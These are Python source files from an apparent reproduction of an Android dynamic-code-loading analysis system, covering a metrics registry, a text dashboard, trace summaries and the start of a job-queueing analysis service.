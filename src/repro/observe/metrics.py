"""The metrics registry: named counters, gauges, histograms, distinct sets.

Everything here is plain-data, dependency-free, and built for the farm's
determinism guarantee: a registry serializes with ``to_dict`` and merges
with ``merge_dict`` using only order-independent operations (sum, max,
set union), so merging shard registries in any completion order yields
the same result.

:class:`LatencyHistogram` lives here now (it started in
``repro.farm.metrics``, which keeps a re-export shim); ``record`` is a
``bisect`` over the fixed 1-2-5 bucket ladder instead of a linear scan.
"""

from __future__ import annotations

from bisect import bisect_left
from typing import Dict, Iterable, List, Set

__all__ = [
    "Counter",
    "DistinctSet",
    "Gauge",
    "LatencyHistogram",
    "MetricsRegistry",
    "defense_summary",
    "evolution_summary",
    "lease_summary",
    "triage_summary",
    "verdict_cache_summary",
    "verdict_store_summary",
]

#: 1-2-5 bucket ladder from 1ms to 100s (seconds); +inf is implicit.
_BUCKET_BOUNDS = (
    0.001, 0.002, 0.005, 0.01, 0.02, 0.05, 0.1, 0.2, 0.5,
    1.0, 2.0, 5.0, 10.0, 20.0, 50.0, 100.0,
)


class LatencyHistogram:
    """Fixed-bucket latency histogram with exact summary stats.

    Bucket semantics are cumulative-upper-bound (``value <= bound``);
    values past the last bound land in the implicit ``le_inf`` bucket.
    Negative values are clamped to zero -- latency can never be negative,
    and a clock hiccup must not corrupt ``total_s``.
    """

    def __init__(self) -> None:
        self.counts = [0] * (len(_BUCKET_BOUNDS) + 1)
        self.count = 0
        self.total_s = 0.0
        self.max_s = 0.0

    def record(self, seconds: float) -> None:
        if seconds < 0.0:
            seconds = 0.0
        self.count += 1
        self.total_s += seconds
        if seconds > self.max_s:
            self.max_s = seconds
        self.counts[bisect_left(_BUCKET_BOUNDS, seconds)] += 1

    def merge(self, other: "LatencyHistogram") -> None:
        self.count += other.count
        self.total_s += other.total_s
        self.max_s = max(self.max_s, other.max_s)
        for position, count in enumerate(other.counts):
            self.counts[position] += count

    def to_dict(self) -> Dict[str, object]:
        buckets = {
            "le_{:g}s".format(bound): count
            for bound, count in zip(_BUCKET_BOUNDS, self.counts)
        }
        buckets["le_inf"] = self.counts[-1]
        return {
            "count": self.count,
            "total_s": round(self.total_s, 6),
            "mean_s": round(self.total_s / self.count, 6) if self.count else 0.0,
            "max_s": round(self.max_s, 6),
            "buckets": buckets,
        }

    def merge_dict(self, payload: Dict[str, object]) -> None:
        """Fold a serialized histogram (``to_dict`` output) into this one."""
        self.count += payload["count"]
        self.total_s += payload["total_s"]
        self.max_s = max(self.max_s, payload["max_s"])
        buckets = payload["buckets"]
        for position, bound in enumerate(_BUCKET_BOUNDS):
            self.counts[position] += buckets["le_{:g}s".format(bound)]
        self.counts[-1] += buckets["le_inf"]


class Counter:
    """A monotonically increasing named count."""

    __slots__ = ("value",)

    def __init__(self) -> None:
        self.value = 0

    def inc(self, n: int = 1) -> None:
        self.value += n


class Gauge:
    """A last-written value; merges take the max (order-independent)."""

    __slots__ = ("value",)

    def __init__(self) -> None:
        self.value = 0.0

    def set(self, value: float) -> None:
        self.value = value


class DistinctSet:
    """A set of string keys; merges by union.

    This is what makes cache metrics shard-invariant: per-shard hit/miss
    counters depend on which apps share a shard, but the *union of missed
    digests* (= distinct payloads actually analyzed) is identical for any
    sharding of the same seeded corpus.
    """

    __slots__ = ("values",)

    def __init__(self) -> None:
        self.values: Set[str] = set()

    def add(self, value: str) -> None:
        self.values.add(value)

    @property
    def count(self) -> int:
        return len(self.values)


class MetricsRegistry:
    """Create-on-first-use registry of named metrics."""

    def __init__(self) -> None:
        self._counters: Dict[str, Counter] = {}
        self._gauges: Dict[str, Gauge] = {}
        self._histograms: Dict[str, LatencyHistogram] = {}
        self._distincts: Dict[str, DistinctSet] = {}

    # -- access ----------------------------------------------------------------

    def counter(self, name: str) -> Counter:
        try:
            return self._counters[name]
        except KeyError:
            metric = self._counters[name] = Counter()
            return metric

    def gauge(self, name: str) -> Gauge:
        try:
            return self._gauges[name]
        except KeyError:
            metric = self._gauges[name] = Gauge()
            return metric

    def histogram(self, name: str) -> LatencyHistogram:
        try:
            return self._histograms[name]
        except KeyError:
            metric = self._histograms[name] = LatencyHistogram()
            return metric

    def distinct(self, name: str) -> DistinctSet:
        try:
            return self._distincts[name]
        except KeyError:
            metric = self._distincts[name] = DistinctSet()
            return metric

    # -- read-only helpers (absent metric reads as empty) ----------------------

    def counter_value(self, name: str) -> int:
        metric = self._counters.get(name)
        return metric.value if metric else 0

    def distinct_count(self, name: str) -> int:
        metric = self._distincts.get(name)
        return metric.count if metric else 0

    def histogram_names(self) -> List[str]:
        return sorted(self._histograms)

    # -- serialization / merge -------------------------------------------------

    def to_dict(self) -> Dict[str, object]:
        return {
            "counters": {
                name: counter.value for name, counter in sorted(self._counters.items())
            },
            "gauges": {
                name: gauge.value for name, gauge in sorted(self._gauges.items())
            },
            "histograms": {
                name: histogram.to_dict()
                for name, histogram in sorted(self._histograms.items())
            },
            "distinct": {
                name: sorted(dset.values)
                for name, dset in sorted(self._distincts.items())
            },
        }

    def merge_dict(self, payload: Dict[str, object]) -> None:
        """Fold a serialized registry (``to_dict`` output) into this one.

        Every operation is commutative and associative, so shard
        registries can arrive in any completion order.
        """
        for name, value in payload.get("counters", {}).items():
            self.counter(name).inc(value)
        for name, value in payload.get("gauges", {}).items():
            gauge = self.gauge(name)
            gauge.set(max(gauge.value, value))
        for name, histogram in payload.get("histograms", {}).items():
            self.histogram(name).merge_dict(histogram)
        for name, values in payload.get("distinct", {}).items():
            self.distinct(name).values.update(values)

    def merge(self, other: "MetricsRegistry") -> None:
        self.merge_dict(other.to_dict())


def verdict_cache_summary(registry: MetricsRegistry) -> Dict[str, Dict[str, int]]:
    """Shard-invariant verdict-cache effectiveness numbers.

    ``lookups`` counts every detection/privacy cache probe and ``misses``
    the *distinct* payload digests probed -- both are properties of the
    seeded corpus alone, so any sharding of the same run reports the same
    numbers.  ``hits`` is the deduplicated work avoided.  (The per-process
    ``cache.<kind>.hit``/``.miss`` counters remain in the registry; those
    legitimately vary with sharding and LRU eviction.)
    """
    summary: Dict[str, Dict[str, int]] = {}
    for kind in ("detection", "privacy"):
        lookups = registry.counter_value("cache.{}.lookups".format(kind))
        misses = registry.distinct_count("cache.{}.digests".format(kind))
        summary[kind] = {
            "lookups": lookups,
            "misses": misses,
            "hits": max(0, lookups - misses),
        }
    return summary


def verdict_store_summary(registry: MetricsRegistry) -> Dict[str, Dict[str, int]]:
    """Tier-2 (shared verdict store) effectiveness numbers.

    ``probes`` counts tier-1 misses that consulted the store; ``hits``
    are verdicts served without recomputation (published by a sibling
    shard, another process, or a previous run); ``misses`` forced an
    actual DroidNative/FlowDroid invocation.  On a cold store a run's
    ``misses`` equals its distinct-digest count; on a warm store it is 0.
    """
    summary: Dict[str, Dict[str, int]] = {}
    for kind in ("detection", "privacy"):
        hits = registry.counter_value("store.{}.hit".format(kind))
        misses = registry.counter_value("store.{}.miss".format(kind))
        summary[kind] = {"probes": hits + misses, "hits": hits, "misses": misses}
    return summary


def lease_summary(registry: MetricsRegistry) -> Dict[str, int]:
    """Network-farm lease-ledger numbers from the ``farm.lease.*`` counters.

    ``granted`` counts every lease handed to a worker (including
    re-grants of requeued shards -- the work-stealing path), ``renewed``
    successful heartbeat extensions, ``expired`` leases the reaper
    reclaimed from silent workers, ``stolen`` expired shards re-leased to
    a different worker, and ``stale`` completions that arrived after the
    ledger had already accepted the shard from someone else (discarded;
    exactly-once folding is first-completion-wins).
    """
    return {
        name: registry.counter_value("farm.lease.{}".format(name))
        for name in ("granted", "renewed", "expired", "stolen", "stale")
    }


def evolution_summary(registry: MetricsRegistry) -> Dict[str, object]:
    """Longitudinal-run numbers from the ``evolution.*`` counters.

    ``snapshots`` counts every (package, version) analysis, ``mutated``
    the versions whose blueprint drifted from its predecessor, and
    ``drift`` buckets the adjacent-version diffs by their severity label
    (``none`` means the pair produced no findings at all).
    """
    return {
        "snapshots": registry.counter_value("evolution.apps"),
        "mutated_versions": registry.counter_value("evolution.mutated_versions"),
        "versions": registry.counter_value("evolution.versions"),
        "drift": {
            severity: registry.counter_value("evolution.drift.{}".format(severity))
            for severity in ("none", "benign", "suspicious", "critical")
        },
    }


def defense_summary(registry: MetricsRegistry) -> Dict[str, object]:
    """Enforcement numbers from the ``defense.*`` counters.

    ``loads_checked`` counts every inline firewall verdict (ALLOWs
    included), ``loads_denied``/``loads_quarantined`` the blocking ones,
    ``apps_blocked`` the apps with at least one blocked load, and
    ``by_rule`` attributes blocks to the policy rule that fired.
    ``secure_loader_rejections`` counts the developer-side saves
    (:class:`~repro.defense.secure_loader.SecureDexClassLoader` refusals),
    which never reach the firewall because the load never happens.
    """
    counters = registry.to_dict()["counters"]
    prefix = "defense.rule."
    return {
        "loads_checked": registry.counter_value("defense.loads_checked"),
        "loads_denied": registry.counter_value("defense.loads_denied"),
        "loads_quarantined": registry.counter_value("defense.loads_quarantined"),
        "apps_blocked": registry.counter_value("defense.apps_blocked"),
        "secure_loader_rejections": registry.counter_value(
            "defense.secure_loader_rejections"
        ),
        "by_rule": {
            name[len(prefix):]: value
            for name, value in counters.items()
            if name.startswith(prefix)
        },
    }


def triage_summary(registry: MetricsRegistry) -> Dict[str, object]:
    """Tier-0 gate numbers from the ``triage.*`` counters.

    ``gated`` counts every session the gate scored, ``hit`` the apps whose
    verdicts it short-circuited, ``fallthrough`` the undecided apps that
    ran the full analyzers (and were harvested as training data), and
    ``override`` the decided apps where every payload resolved from the
    LRU/verdict store anyway -- tier 1/2 results always beat predictions.
    ``analyzers_skipped`` counts per-payload analyzer invocations avoided.
    """
    gated = registry.counter_value("triage.gated")
    hit = registry.counter_value("triage.hit")
    return {
        "gated": gated,
        "hit": hit,
        "fallthrough": registry.counter_value("triage.fallthrough"),
        "override": registry.counter_value("triage.override"),
        "analyzers_skipped": registry.counter_value("triage.analyzers_skipped"),
        "short_circuit_rate": round(hit / gated, 4) if gated else 0.0,
    }


def iter_bucket_bounds() -> Iterable[float]:
    """The histogram bucket ladder (exported for tests and docs)."""
    return _BUCKET_BOUNDS
