"""``repro top``: a live text dashboard over a daemon or a farm run.

Two data sources, one snapshot shape:

- **daemon** -- poll ``GET /v1/stats`` (JSON) and ``GET
  /metrics?format=prom`` (parsed with the in-repo
  :func:`~repro.observe.prom.parse_prometheus`), fold into one snapshot:
  queue depth, worker/job health, cache and verdict-store hit rates,
  per-stage p50/p95 estimated from the exposed histogram buckets, and
  per-tenant SLO budgets;
- **farm** -- read the coordinator's ``status.json``: per-shard
  progress bars, heartbeat ages, stall flags.

``build_*_snapshot`` and :func:`render_top` are pure functions of their
inputs, so the dashboard is testable without sockets, and ``repro top
--once`` can print the snapshot as JSON for CI and scripts.
"""

from __future__ import annotations

from typing import Any, Dict, Optional

from repro.observe.prom import histogram_quantiles, parse_prometheus

__all__ = ["build_daemon_snapshot", "build_farm_snapshot", "render_top"]

_PROM_PREFIX = "repro_"


def _counter(families: Dict[str, Dict[str, Any]], name: str) -> float:
    family = families.get(name)
    if not family:
        return 0.0
    return sum(value for _, _, value in family["samples"])


def _hit_rate(hits: float, misses: float) -> Optional[float]:
    total = hits + misses
    return round(hits / total, 4) if total else None


def build_daemon_snapshot(
    stats: Dict[str, Any], prom_text: str
) -> Dict[str, Any]:
    """``/v1/stats`` + ``/metrics?format=prom`` -> one dashboard snapshot."""
    families = parse_prometheus(prom_text)
    stages: Dict[str, Dict[str, Any]] = {}
    for name, family in sorted(families.items()):
        if family["type"] != "histogram" or not name.startswith(_PROM_PREFIX + "stage_"):
            continue
        label = name[len(_PROM_PREFIX + "stage_"):]
        if label.endswith("_seconds"):
            label = label[: -len("_seconds")]
        count = next(
            (value for sample, _, value in family["samples"] if sample.endswith("_count")),
            0.0,
        )
        if not count:
            continue
        quantiles = histogram_quantiles(family, (0.5, 0.95))
        stages[label] = {
            "count": int(count),
            "p50_s": round(quantiles[0.5], 6),
            "p95_s": round(quantiles[0.95], 6),
        }

    counters = stats.get("counters", {})
    store = {
        kind: {
            "hits": int(_counter(families, "{}store_{}_hit_total".format(_PROM_PREFIX, kind))),
            "misses": int(_counter(families, "{}store_{}_miss_total".format(_PROM_PREFIX, kind))),
        }
        for kind in ("detection", "privacy")
    }
    for numbers in store.values():
        numbers["hit_rate"] = _hit_rate(numbers["hits"], numbers["misses"])

    return {
        "source": "daemon",
        "uptime_s": stats.get("uptime_s"),
        "draining": stats.get("draining", False),
        "workers": stats.get("workers"),
        "queue": stats.get("queue", {}),
        "jobs": stats.get("jobs", {}),
        "cache": {
            "hits": counters.get("service.cache.hit", 0),
            "misses": counters.get("service.cache.miss", 0),
            "hit_rate": _hit_rate(
                counters.get("service.cache.hit", 0),
                counters.get("service.cache.miss", 0),
            ),
            "entries": stats.get("cache", {}).get("entries"),
        },
        "store": store,
        "stages": stages,
        "slo": stats.get("slo"),
        "events": stats.get("events"),
    }


def build_farm_snapshot(status: Dict[str, Any]) -> Dict[str, Any]:
    """A coordinator ``status.json`` -> one dashboard snapshot."""
    return dict(status, source="farm")


# -- rendering -----------------------------------------------------------------


def _fmt_s(seconds: Optional[float]) -> str:
    if seconds is None:
        return "-"
    if seconds >= 1.0:
        return "{:.2f}s".format(seconds)
    return "{:.2f}ms".format(seconds * 1e3)


def _fmt_rate(rate: Optional[float]) -> str:
    return "-" if rate is None else "{:.1%}".format(rate)


def _bar(completed: int, total: int, width: int = 20) -> str:
    if total <= 0:
        return "-" * width
    filled = int(round(width * min(completed, total) / total))
    return "#" * filled + "." * (width - filled)


def _render_daemon(snapshot: Dict[str, Any]) -> str:
    queue = snapshot.get("queue", {})
    jobs = snapshot.get("jobs", {})
    cache = snapshot.get("cache", {})
    lines = [
        "repro top -- daemon  (uptime {:.0f}s{})".format(
            snapshot.get("uptime_s") or 0.0,
            ", DRAINING" if snapshot.get("draining") else "",
        ),
        "queue  depth {}/{}  inflight {}  workers {}".format(
            queue.get("depth", 0),
            queue.get("max_depth", "-"),
            queue.get("inflight", 0),
            snapshot.get("workers", "-"),
        ),
        "jobs   queued {}  running {}  done {}  failed {}  total {}".format(
            jobs.get("queued", 0), jobs.get("running", 0),
            jobs.get("done", 0), jobs.get("failed", 0), jobs.get("total", 0),
        ),
        "cache  {} hits / {} misses ({})  entries {}".format(
            cache.get("hits", 0), cache.get("misses", 0),
            _fmt_rate(cache.get("hit_rate")), cache.get("entries", "-"),
        ),
    ]
    store = snapshot.get("store", {})
    store_bits = [
        "{} {}".format(kind, _fmt_rate(numbers.get("hit_rate")))
        for kind, numbers in sorted(store.items())
        if numbers.get("hits", 0) + numbers.get("misses", 0)
    ]
    if store_bits:
        lines.append("store  " + "  ".join(store_bits))
    stages = snapshot.get("stages", {})
    if stages:
        lines.append("")
        lines.append("{:<28} {:>7} {:>9} {:>9}".format("stage", "count", "p50", "p95"))
        for label, numbers in sorted(
            stages.items(), key=lambda pair: -pair[1]["p95_s"]
        ):
            lines.append(
                "{:<28} {:>7} {:>9} {:>9}".format(
                    label, numbers["count"],
                    _fmt_s(numbers["p50_s"]), _fmt_s(numbers["p95_s"]),
                )
            )
    slo = snapshot.get("slo")
    if slo and slo.get("clients"):
        lines.append("")
        lines.append("{:<20} {:>6} {:>7}  {}".format("tenant", "jobs", "errors", "budgets"))
        for client, report in sorted(slo["clients"].items()):
            budgets = "  ".join(
                "{} {:>4.0%}".format(objective, budget)
                for objective, budget in sorted(report.get("budgets", {}).items())
            )
            marker = "" if report.get("met", True) else "  [SLO BREACH]"
            lines.append(
                "{:<20} {:>6} {:>7}  {}{}".format(
                    client, report.get("window_jobs", 0),
                    report.get("errors", 0), budgets, marker,
                )
            )
    return "\n".join(lines)


def _render_farm(snapshot: Dict[str, Any]) -> str:
    lines = [
        "repro top -- farm  (state {}, uptime {:.0f}s)".format(
            snapshot.get("state", "?"), snapshot.get("uptime_s") or 0.0
        ),
        "apps   settled {}/{}  quarantined {}  shards done {}/{}".format(
            snapshot.get("apps_settled", 0), snapshot.get("n_apps", "-"),
            snapshot.get("apps_quarantined", 0),
            snapshot.get("shards_done", 0), snapshot.get("shards_planned", "-"),
        ),
    ]
    shards = snapshot.get("shards", {})
    if shards:
        lines.append("")
        lines.append(
            "{:<6} {:<22} {:>9} {:>9}  {}".format("shard", "progress", "done/total", "silent", "state")
        )
        for shard_id in sorted(shards, key=int):
            shard = shards[shard_id]
            state = shard.get("state", "?")
            lines.append(
                "{:<6} [{}] {:>9} {:>9}  {}{}".format(
                    shard_id,
                    _bar(shard.get("completed", 0), shard.get("total", 0)),
                    "{}/{}".format(shard.get("completed", 0), shard.get("total", 0)),
                    _fmt_s(shard.get("silent_s")),
                    state,
                    "  [STALLED]" if state == "stalled" else "",
                )
            )
    stalled = snapshot.get("stalled") or []
    if stalled:
        lines.append("")
        lines.append("STALLED SHARDS: {}".format(", ".join(map(str, stalled))))
    return "\n".join(lines)


def render_top(snapshot: Dict[str, Any]) -> str:
    """Render one snapshot (either source) as the dashboard text."""
    if snapshot.get("source") == "farm":
        return _render_farm(snapshot)
    return _render_daemon(snapshot)
