"""Observability for the reproduction: tracing, metrics, trace export.

The pipeline's value is *measurement*, so the pipeline itself must be
measurable: which stage is slow, which cache is cold, which intercepted
binary burned the time.  This package is the dependency-free layer that
answers those questions:

- :mod:`repro.observe.tracer`  -- nested spans with deterministic ids
  (monotonic counters; farm merges stay reproducible) and a zero-cost
  :data:`NULL_TRACER` for the disabled path;
- :mod:`repro.observe.metrics` -- :class:`MetricsRegistry` of counters /
  gauges / histograms / distinct-sets that serializes and merges with
  order-independent operations (:class:`LatencyHistogram` moved here
  from ``repro.farm.metrics``, which re-exports it);
- :mod:`repro.observe.export`  -- JSONL and Chrome ``trace_event``
  writers plus a loader for ``repro trace summary``;
- :mod:`repro.observe.summary` -- per-stage p50/p95/max table and the
  one-line digest ``repro measure`` prints by default;
- :mod:`repro.observe.merge`   -- deterministic re-iding of per-shard
  span lists into one trace;
- :mod:`repro.observe.events`  -- leveled structured event log (bounded
  ring + optional JSONL sink) with a zero-cost :data:`NULL_EVENT_LOG`;
- :mod:`repro.observe.prom`    -- Prometheus text exposition of the
  registry plus the in-repo parser/validator and bucket-quantile math;
- :mod:`repro.observe.top`     -- the ``repro top`` dashboard snapshot
  builders and renderer.

Instrumented call sites accept a tracer and default to the null tracer,
so library users pay nothing unless they opt in::

    from repro.observe import Tracer, MetricsRegistry
    tracer, registry = Tracer(), MetricsRegistry()
    report = DyDroid(config, tracer=tracer, metrics=registry).measure(corpus)
    write_trace(tracer.to_dicts(), "trace.json", fmt="chrome")
"""

from repro.observe.events import (
    EVENT_LEVELS,
    Event,
    EventLog,
    NULL_EVENT_LOG,
    NullEventLog,
    load_events,
)
from repro.observe.export import TRACE_FORMATS, load_spans, to_chrome_events, write_trace
from repro.observe.merge import merge_span_lists
from repro.observe.metrics import (
    Counter,
    DistinctSet,
    Gauge,
    LatencyHistogram,
    MetricsRegistry,
    defense_summary,
    evolution_summary,
    lease_summary,
    triage_summary,
    verdict_cache_summary,
    verdict_store_summary,
)
from repro.observe.prom import (
    PROM_CONTENT_TYPE,
    PromParseError,
    histogram_quantiles,
    merge_expositions,
    parse_prometheus,
    quantile_from_buckets,
    to_prometheus,
)
from repro.observe.summary import StageStats, digest_line, render_summary, stage_stats
from repro.observe.top import build_daemon_snapshot, build_farm_snapshot, render_top
from repro.observe.tracer import (
    NULL_TRACER,
    NullSpan,
    NullTracer,
    Span,
    Tracer,
    stage,
)

__all__ = [
    "Counter",
    "DistinctSet",
    "EVENT_LEVELS",
    "Event",
    "EventLog",
    "Gauge",
    "LatencyHistogram",
    "MetricsRegistry",
    "NULL_EVENT_LOG",
    "NULL_TRACER",
    "NullEventLog",
    "NullSpan",
    "NullTracer",
    "PROM_CONTENT_TYPE",
    "PromParseError",
    "Span",
    "StageStats",
    "TRACE_FORMATS",
    "Tracer",
    "build_daemon_snapshot",
    "build_farm_snapshot",
    "defense_summary",
    "digest_line",
    "evolution_summary",
    "histogram_quantiles",
    "lease_summary",
    "load_events",
    "load_spans",
    "merge_expositions",
    "merge_span_lists",
    "parse_prometheus",
    "quantile_from_buckets",
    "render_summary",
    "render_top",
    "stage",
    "stage_stats",
    "to_chrome_events",
    "to_prometheus",
    "triage_summary",
    "verdict_cache_summary",
    "verdict_store_summary",
    "write_trace",
]
