"""Human-facing trace summaries: per-stage stats table and digest line.

Percentiles use the nearest-rank method on exact per-span durations (the
spans are all in memory anyway; no need to approximate from histogram
buckets here).
"""

from __future__ import annotations

import math

from dataclasses import dataclass
from typing import Any, Dict, List, Optional, Sequence

from repro.observe.metrics import MetricsRegistry, verdict_cache_summary

__all__ = ["StageStats", "stage_stats", "render_summary", "digest_line"]


@dataclass
class StageStats:
    """Aggregate timing of every span sharing one name."""

    name: str
    count: int
    total_s: float
    p50_s: float
    p95_s: float
    max_s: float


def _percentile(durations_sorted: Sequence[float], q: float) -> float:
    """Nearest-rank percentile over an ascending-sorted sequence."""
    if not durations_sorted:
        return 0.0
    rank = max(1, math.ceil(q * len(durations_sorted)))
    return durations_sorted[min(rank, len(durations_sorted)) - 1]


def stage_stats(spans: Sequence[Dict[str, Any]]) -> List[StageStats]:
    """Per-name stats, ordered by total time descending (ties by name)."""
    by_name: Dict[str, List[float]] = {}
    for span in spans:
        by_name.setdefault(span["name"], []).append(span.get("dur", 0.0))
    stats = []
    for name, durations in by_name.items():
        durations.sort()
        stats.append(
            StageStats(
                name=name,
                count=len(durations),
                total_s=sum(durations),
                p50_s=_percentile(durations, 0.50),
                p95_s=_percentile(durations, 0.95),
                max_s=durations[-1],
            )
        )
    stats.sort(key=lambda stat: (-stat.total_s, stat.name))
    return stats


def _fmt_s(seconds: float) -> str:
    if seconds >= 1.0:
        return "{:.2f}s".format(seconds)
    return "{:.2f}ms".format(seconds * 1e3)


def render_summary(spans: Sequence[Dict[str, Any]]) -> str:
    """An aligned per-stage table: count, total, p50, p95, max."""
    stats = stage_stats(spans)
    if not stats:
        return "(empty trace)"
    header = ("stage", "count", "total", "p50", "p95", "max")
    rows = [header]
    for stat in stats:
        rows.append(
            (
                stat.name,
                str(stat.count),
                _fmt_s(stat.total_s),
                _fmt_s(stat.p50_s),
                _fmt_s(stat.p95_s),
                _fmt_s(stat.max_s),
            )
        )
    widths = [max(len(row[col]) for row in rows) for col in range(len(header))]
    lines = []
    for index, row in enumerate(rows):
        cells = [row[0].ljust(widths[0])]
        cells += [row[col].rjust(widths[col]) for col in range(1, len(header))]
        lines.append("  ".join(cells).rstrip())
        if index == 0:
            lines.append("  ".join("-" * width for width in widths))
    return "\n".join(lines)


def digest_line(
    spans: Sequence[Dict[str, Any]],
    registry: Optional[MetricsRegistry] = None,
    top: int = 3,
) -> str:
    """One-line trace digest: slowest stages plus cache effectiveness.

    This is the ``summary_line()``-style footer ``repro measure`` prints
    by default, so a slow run names its own bottleneck without anyone
    re-running with extra flags.

    Only pipeline *stage* spans -- direct children of an ``app`` span --
    compete for the top slots; inner spans (engine phases, per-payload
    analyses) would double-count the time of their enclosing stage.
    """
    names_by_id = {span["span_id"]: span["name"] for span in spans}
    stage_spans = [
        span
        for span in spans
        if names_by_id.get(span["parent_id"]) == "app"
    ]
    stats = stage_stats(stage_spans)
    parts = []
    if stats:
        top_stages = ", ".join(
            "{} {}".format(stat.name, _fmt_s(stat.total_s)) for stat in stats[:top]
        )
        parts.append("top stages: " + top_stages)
    if registry is not None:
        caches = verdict_cache_summary(registry)
        cache_bits = []
        for kind in ("detection", "privacy"):
            numbers = caches[kind]
            if numbers["lookups"]:
                cache_bits.append(
                    "{} cache {}/{} hits".format(
                        kind, numbers["hits"], numbers["lookups"]
                    )
                )
        if cache_bits:
            parts.append(", ".join(cache_bits))
    if not parts:
        return "[trace: no stages recorded]"
    return "[trace: {}]".format("; ".join(parts))
