"""The analysis service core: admission, dedup, dispatch, serve.

:class:`AnalysisService` is the transport-independent brain behind the
HTTP layer (:mod:`repro.service.http` holds the sockets).  One submission
travels::

    submit -> rate limiter -> spec-level cache probe -> in-flight
    coalescing -> queue admission -> scheduler worker -> build record ->
    content-digest probe -> DyDroid.analyze_app -> content cache (+ JSONL
    journal) -> DONE

Deduplication happens at three levels, strongest first:

1. **spec-level** (submit time): the submission key already maps to a
   cached digest -- answered instantly, no job queued;
2. **in-flight coalescing** (submit time): an identical submission is
   queued or running -- the new submission attaches to that job, so N
   concurrent duplicates cost exactly one pipeline execution;
3. **content-level** (worker, post-build): a *different* spec assembled
   byte-identical APK bytes -- analysis is skipped, the digest's cached
   verdict is linked to the new spec key.

All three count as ``service.cache.hit``; only submissions that enqueue
new work count ``service.cache.miss``.

Thread model: HTTP threads and scheduler workers synchronize on one
service lock for submit/completion bookkeeping and the shared
:class:`MetricsRegistry`.  Pipeline execution itself runs *outside* the
lock against per-thread :class:`DyDroid` instances and per-job
registries/tracers, merged in afterwards -- the same
serialize-then-fold-deterministically pattern the farm uses for shard
results.
"""

from __future__ import annotations

import threading
import time
from collections import deque
from dataclasses import dataclass, field
from typing import Deque, Dict, List, Optional, Tuple

from repro.core.config import DyDroidConfig
from repro.core.pipeline import DyDroid
from repro.observe.events import EventLog
from repro.observe.merge import merge_span_lists
from repro.observe.metrics import MetricsRegistry, triage_summary
from repro.observe.prom import to_prometheus
from repro.observe.tracer import NULL_TRACER, Tracer, stage
from repro.service.cache import ResultCache
from repro.service.jobs import Job, JobState, JobTable
from repro.service.persist import ResultJournal
from repro.service.queue import JobQueue, QueueClosedError
from repro.service.ratelimit import MAX_RETRY_AFTER_S, RateLimitedError, RateLimiter
from repro.service.scheduler import SchedulerPool
from repro.service.slo import SloObjectives, SloTracker
from repro.service.spec import JobSpec, SpecError
from repro.store.verdicts import VerdictStore

__all__ = ["AnalysisService", "ServiceConfig"]

#: JSON bodies and headers common to every response.
JsonResponse = Tuple[int, Dict[str, object], Dict[str, str]]

_NO_HEADERS: Dict[str, str] = {}


@dataclass
class ServiceConfig:
    """One daemon's knobs: transport, scheduling, admission, persistence."""

    host: str = "127.0.0.1"
    port: int = 0  # 0: ephemeral; read the bound port off the server
    #: scheduler threads (0 is a valid stalled pool, used by tests to
    #: exercise admission control).
    workers: int = 2
    #: bounded queue depth; beyond it submissions get 429 + Retry-After.
    queue_depth: int = 64
    #: per-client token bucket; <= 0 disables rate limiting.
    rate_per_s: float = 0.0
    rate_burst: int = 10
    #: JSONL result journal; existing files are loaded so a restarted
    #: daemon serves previously computed results.
    persist: Optional[str] = None
    #: shared verdict store path (tier 2 behind each worker's LRU); one
    #: store instance is shared by every worker thread, and the file can
    #: simultaneously back farm runs on the same host.
    verdict_store: Optional[str] = None
    pipeline: DyDroidConfig = field(default_factory=DyDroidConfig)
    #: content-cache bound (distinct APK digests held in memory).
    cache_capacity: int = 65536
    #: finished jobs kept pollable before eviction.
    max_retained_jobs: int = 4096
    #: collect request/job spans (bounded; merged via ``trace_dicts``).
    trace: bool = True
    #: span sources (jobs + requests) retained for trace export.
    retained_trace_sources: int = 512
    #: per-tenant SLO objectives (``parse_slo("p95=30s,error_rate=1%")``);
    #: None disables SLO tracking and the ``slo.*`` gauges.
    slo: Optional[SloObjectives] = None
    #: completed jobs per client considered by the rolling error budgets.
    slo_window: int = 256
    #: optional JSONL sink for the structured event log (append mode).
    event_log: Optional[str] = None
    #: events retained in memory for ``/v1/stats`` regardless of sink.
    event_capacity: int = 1024


class AnalysisService:
    """Queue, dedupe, analyze, and serve -- the daemon behind ``repro serve``."""

    def __init__(self, config: Optional[ServiceConfig] = None) -> None:
        self.config = config or ServiceConfig()
        self.registry = MetricsRegistry()
        self.cache = ResultCache(self.config.cache_capacity)
        self.jobs = JobTable(self.config.max_retained_jobs)
        self.queue = JobQueue(self.config.queue_depth)
        self.limiter = RateLimiter(self.config.rate_per_s, self.config.rate_burst)
        self.scheduler = SchedulerPool(
            queue=self.queue, execute=self.execute, workers=self.config.workers
        )
        self.journal: Optional[ResultJournal] = None
        self.verdict_store: Optional[VerdictStore] = None
        #: structured operational events: always ring-buffered for
        #: ``/v1/stats``; written through to JSONL when ``event_log`` set.
        self.events = EventLog(
            capacity=self.config.event_capacity, sink=self.config.event_log
        )
        self.slo: Optional[SloTracker] = (
            SloTracker(self.config.slo, window=self.config.slo_window)
            if self.config.slo is not None and not self.config.slo.empty
            else None
        )
        self._inflight: Dict[str, str] = {}  # spec_key -> primary job id
        self._lock = threading.RLock()
        self._local = threading.local()
        self._draining = False
        self._started_monotonic = time.monotonic()
        self._span_sources: Deque[Tuple[int, List[Dict[str, object]]]] = deque(
            maxlen=self.config.retained_trace_sources
        )
        self._span_seq = 0

    # -- lifecycle -------------------------------------------------------------

    def start(self) -> None:
        """Restore persisted results and start the scheduler pool."""
        if self.config.verdict_store:
            self.verdict_store = VerdictStore(
                self.config.verdict_store, self.config.pipeline
            )
        if self.config.persist:
            self.journal = ResultJournal(self.config.persist, self.config.pipeline)
            for entry in self.journal.restored:
                self.cache.put(entry["spec_key"], entry["digest"], entry["analysis"])
            with self._lock:
                self.registry.counter("service.persist.restored").inc(
                    len(self.journal.restored)
                )
        self._started_monotonic = time.monotonic()
        self.scheduler.start()

    def drain(self, timeout: Optional[float] = None) -> bool:
        """Graceful shutdown: reject new work, finish the queue, stop.

        Returns True once every worker has exited; queued jobs are
        completed (and journaled), not dropped.
        """
        with self._lock:
            self._draining = True
        drained = self.scheduler.drain(timeout=timeout)
        self.events.emit("service.drained", drained=drained)
        self.events.close()
        if self.journal is not None:
            self.journal.close()
            self.journal = None
        if self.verdict_store is not None:
            self.verdict_store.close()
            self.verdict_store = None
        return drained

    @property
    def draining(self) -> bool:
        with self._lock:
            return self._draining

    def uptime_s(self) -> float:
        return time.monotonic() - self._started_monotonic

    # -- submission (HTTP thread) ----------------------------------------------

